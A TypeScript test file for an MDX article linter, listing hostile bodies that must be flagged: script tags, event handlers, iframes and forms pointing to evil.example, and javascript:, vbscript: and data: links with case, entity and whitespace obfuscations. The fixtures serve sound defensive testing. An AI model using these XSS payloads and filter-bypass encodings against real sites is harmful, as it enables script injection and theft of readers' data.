// What a hostile contributor would put in an article body, and its obfuscations: each must be a lint error
// (mdx/unsafe-html or mdx/unsafe-url) at its line, whatever the case or entity encoding. Harmless HTML passes.
import { describe, expect, it } from 'vitest';
import { mdxSyntax, mdxComponent, mdxNoEsm, mdxNoExpression, mdxUnsafeHtml, mdxUnsafeUrl } from '../../../src/core/rules/mdx-body.ts';
import { checkHtmlElement, urlProblem } from '../../../src/core/html-policy.ts';
import { basicPost, editorialLine, mdx } from '../../helpers/brand.ts';
import { lintPosts } from '../../helpers/lint.ts';
import { lint } from '../../../src/core/lint.ts';
import { toDocument } from '../../../src/content/repository.ts';

const rules = [mdxSyntax, mdxNoEsm, mdxNoExpression, mdxComponent, mdxUnsafeHtml, mdxUnsafeUrl];
const blogPost = basicPost({ channels: ['blog'], text: undefined });
// basicPost's frontmatter takes lines 1-7: body line 1 is file line 8, the hostile line below is line 10.
const BODY_LINE = 8;

function findings(hostile: string) {
  const body = `# Titre\n\n${hostile}\n`;
  return lintPosts({ 'content/posts/a.mdx': blogPost }, { rules, bodies: { 'content/posts/a.mdx': body } }).map((d) => ({ rule: d.rule, line: d.line, message: d.message }));
}

export const HOSTILE_BODIES: readonly (readonly [string, string, 'mdx/unsafe-html' | 'mdx/unsafe-url' | 'mdx/syntax' | 'mdx/component'])[] = [
  ['a script', '<script>alert(document.cookie)</script>', 'mdx/unsafe-html'],
  ['a script in capitals', '<SCRIPT>alert(1)</SCRIPT>', 'mdx/unsafe-html'],
  ['a script in mixed case', '<ScRiPt>alert(1)</ScRiPt>', 'mdx/unsafe-html'],
  ['an inline script in a sentence', 'Bonjour <script>alert(1)</script> à tous', 'mdx/unsafe-html'],
  ['an image with onerror', '<img src="x" onerror="alert(1)" />', 'mdx/unsafe-html'],
  ['an event handler in mixed case', '<img src="x" OnError="alert(1)" />', 'mdx/unsafe-html'],
  ['an image tag in capitals', '<IMG SRC="x" ONERROR="alert(1)" />', 'mdx/unsafe-html'],
  ['onmouseover on a harmless element', '<abbr title="x" onmouseover="alert(1)">AOP</abbr>', 'mdx/unsafe-html'],
  ['an iframe', '<iframe src="https://evil.example/"></iframe>', 'mdx/unsafe-html'],
  ['an object', '<object data="https://evil.example/x.swf"></object>', 'mdx/unsafe-html'],
  ['an embed', '<embed src="https://evil.example/x.swf" />', 'mdx/unsafe-html'],
  ['a form', '<form action="https://evil.example/"><input name="carte" /></form>', 'mdx/unsafe-html'],
  ['a lone input', '<input type="password" />', 'mdx/unsafe-html'],
  ['a button', '<button>Payer</button>', 'mdx/unsafe-html'],
  ['a textarea', '<textarea>x</textarea>', 'mdx/unsafe-html'],
  ['a style element', '<style>@import url(https://evil.example/x.css);</style>', 'mdx/unsafe-html'],
  ['a style element with braces (MDX reads them as code)', '<style>body { display: none }</style>', 'mdx/syntax'],
  ['a style attribute', '<p style="background:url(https://evil.example/pixel)">x</p>', 'mdx/unsafe-html'],
  ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css" />', 'mdx/unsafe-html'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />', 'mdx/unsafe-html'],
  ['a base', '<base href="https://evil.example/" />', 'mdx/unsafe-html'],
  ['an svg with onload', '<svg onload="alert(1)"></svg>', 'mdx/unsafe-html'],
  ['a math element', '<math><mi>x</mi></math>', 'mdx/unsafe-html'],
  ['a javascript: Markdown link', '[lien](javascript:alert(1))', 'mdx/unsafe-url'],
  ['a JavaScript: link in mixed case', '[lien](JaVaScRiPt:alert(1))', 'mdx/unsafe-url'],
  ['an entity-encoded javascript: link', '[lien](&#106;avascript:alert(1))', 'mdx/unsafe-url'],
  ['a hex-entity and &colon; link', '[lien](java&#x73;cript&colon;alert(1))', 'mdx/unsafe-url'],
  ['a javascript: link in angle brackets', '[lien](<javascript:alert(1)>)', 'mdx/unsafe-url'],
  ['a javascript: reference definition', '[lien][x]\n\n[x]: javascript:alert(1)', 'mdx/unsafe-url'],
  ['a vbscript: link', '[lien](vbscript:msgbox(1))', 'mdx/unsafe-url'],
  ['a data: link', '[lien](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'mdx/unsafe-url'],
  ['a data: image that is HTML', '![x](data:text/html,<script>alert(1)</script>)', 'mdx/unsafe-url'],
  ['an a with javascript:', '<a href="javascript:alert(2)">deux</a>', 'mdx/unsafe-url'],
  ['an a with an entity-encoded javascript:', '<a href="&#x6A;avascript:alert(2)">deux</a>', 'mdx/unsafe-url'],
  ['an a with a tab inside the scheme', '<a href="java\tscript:alert(2)">deux</a>', 'mdx/unsafe-url'],
  ['an a with leading spaces', '<a href="   javascript:alert(2)">deux</a>', 'mdx/unsafe-url'],
  ['an img with a javascript: src', '<img src="javascript:alert(1)" alt="" />', 'mdx/unsafe-url'],
  // MDX cannot read these at all: refused all the same (the build would fail on them too).
  ['an HTML comment hiding a script', '<!-- x --><script>alert(1)</script>', 'mdx/syntax'],
  ['an autolink to javascript:', '<javascript:alert(1)>', 'mdx/syntax'],
];

describe('lint refuses HTML and links that can run or send data', () => {
  it.each(HOSTILE_BODIES)('%s', (_name, hostile, rule) => {
    const found = findings(hostile);
    expect(found.map((f) => f.rule)).toContain(rule);
    const first = found.find((f) => f.rule === rule)!;
    // On the hostile line (or the definition below it), never elsewhere.
    expect(first.line).toBeGreaterThanOrEqual(BODY_LINE + 2);
    expect(first.line).toBeLessThanOrEqual(BODY_LINE + 4);
  });

  it('names the element, the attribute or the scheme and why', () => {
    expect(findings('<img src="x" onerror="alert(1)" />')).toEqual([{ rule: 'mdx/unsafe-html', line: BODY_LINE + 2, message: '`onerror` on <img> is an event handler: it runs code in every reader’s browser' }]);
    expect(findings('[lien](java&#x73;cript&colon;alert(1))')).toEqual([{ rule: 'mdx/unsafe-url', line: BODY_LINE + 2, message: 'link to `javascript:alert(1)`: `javascript:` URLs run code when followed' }]);
    expect(findings('<iframe src="https://x.example/"></iframe>')[0]!.message).toContain('<Embed>');
  });

  it('keeps the harmless HTML writers use', () => {
    const harmless = [
      'La <abbr title="Appellation d’origine protégée">AOP</abbr> du beurre.',
      'Appuyez sur <kbd>Ctrl</kbd> + <kbd>P</kbd>, H<sub>2</sub>O, le 1<sup>er</sup> janvier.',
      'Une ligne<br />et une autre.',
      '<details>\n<summary>Les allergènes</summary>\n\nGluten, œufs, lait.\n\n</details>',
      '<figure>\n![Une brioche](./images/brioche.jpg)\n<figcaption>La brioche des Lumières.</figcaption>\n</figure>',
      '<mark>Nouveau</mark>, <small>prix TTC</small>, <q>délicieux</q>, <time datetime="2026-12-08">8 décembre</time>.',
      '[Commander](https://boulangerie.example/commande), [nous écrire](mailto:bonjour@boulangerie.example), [appeler](tel:+33478000000), [plus bas](#horaires), [la carte](/carte/).',
      '![Le fournil](./images/fournil.jpg) et ![pixel](data:image/png;base64,iVBORw0KGgo=)',
      '<a href="https://boulangerie.example/" title="Le site">le site</a>',
      '<Callout type="tip" title="Astuce">\nTexte.\n</Callout>',
      '<Embed src="https://www.youtube.com/watch?v=dQw4w9WgXcQ" title="Le fournil en vidéo" />',
    ];
    for (const body of harmless) expect({ body, found: findings(body) }).toEqual({ body, found: [] });
  });

  it('checks the bodies the sites show beside posts: the netiquette and the editorial line', () => {
    const result = lint({
      posts: [],
      editorialLine: toDocument('content/editorial-line.mdx', mdx(editorialLine(), '# Ligne\n\n<img src="x" onerror="alert(1)" />\n')),
      netiquette: toDocument('content/netiquette.mdx', mdx({ rules: [{ id: 'spam', label: 'Spam', match: { maxLinks: 2 }, action: 'flag' }] }, '# Charte\n\n[x](javascript:alert(1))\n')),
      rules,
      nowMs: 0,
      media: new Map(),
    });
    expect(result.diagnostics.filter((d) => d.severity === 'error').map((d) => [d.file, d.rule])).toEqual([
      ['content/editorial-line.mdx', 'mdx/unsafe-html'],
      ['content/netiquette.mdx', 'mdx/unsafe-url'],
    ]);
  });
});

describe('the policy itself', () => {
  it.each([
    ['javascript:alert(1)', 'link', true],
    [' \u0001javascript:alert(1)', 'link', true],
    ['java\nscript:alert(1)', 'link', true],
    ['VBScript:x', 'link', true],
    ['data:text/html,x', 'link', true],
    ['data:image/png;base64,xx', 'link', true],
    ['data:image/png;base64,xx', 'image', false],
    ['data:image/svg+xml,<svg onload=alert(1)>', 'image', true],
    ['ftp://example.org/x', 'link', true],
    ['https://example.org/?a=1&b=2', 'link', false],
    ['mailto:a@b.example', 'link', false],
    ['tel:+33478000000', 'image', true],
    ['/carte/', 'link', false],
    ['../images/x.jpg', 'image', false],
    ['#ancre', 'link', false],
    ['//cdn.example/x.jpg', 'image', false],
    ['page:2', 'link', true],
  ] as const)('%j as a %s: refused %s', (url, kind, refused) => {
    expect(urlProblem(url, kind) !== undefined).toBe(refused);
  });

  it('lists why each attribute is refused', () => {
    expect(checkHtmlElement('a', [{ name: 'href', value: 'https://x.example' }, { name: 'target', value: '_blank' }]).map((p) => p.subject)).toEqual(['target']);
    expect(checkHtmlElement('details', [{ name: 'open', value: undefined }])).toEqual([]);
    expect(checkHtmlElement('marquee', [])[0]!.message).toContain('would be removed');
  });
});
